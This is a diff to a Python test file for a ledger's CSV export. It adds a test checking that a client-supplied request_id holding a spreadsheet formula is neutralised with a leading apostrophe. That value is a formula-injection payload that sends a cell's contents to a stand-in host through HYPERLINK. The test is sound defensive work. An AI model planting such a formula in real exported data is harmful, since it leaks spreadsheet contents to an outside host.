@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
+from dataclasses import replace
 from datetime import date, timedelta
 from pathlib import Path
 
@@ -149,6 +151,18 @@ async def test_an_export_as_csv(house: House) -> None:
         count = await books.export_csv(session, out, house.account_id)
     rows = out.getvalue().splitlines()
     assert rows[0].startswith("call_id,line,seq,settled_at") and len(rows) == count + 1
+
+
+async def test_a_clients_request_id_is_no_formula_in_an_export(house: House) -> None:
+    await house.grant(5)
+    sent = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
+    await house.ledger().settle(replace(house.call(1), request_id=sent))
+    out = io.StringIO(newline="")
+    async with work.snapshot(house.engine) as session:
+        await books.export_csv(session, out, house.account_id)
+    head, line = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    row = dict(zip(head, line, strict=True))
+    assert (row["request_id"], row["settled_at"]) == ("'" + sent, START.replace(second=1).isoformat())
 
 
 @pytest.mark.parametrize("content", ["", "{}", "not json", '{"kind": "ledger"}\n{"kind": "pack"}'])
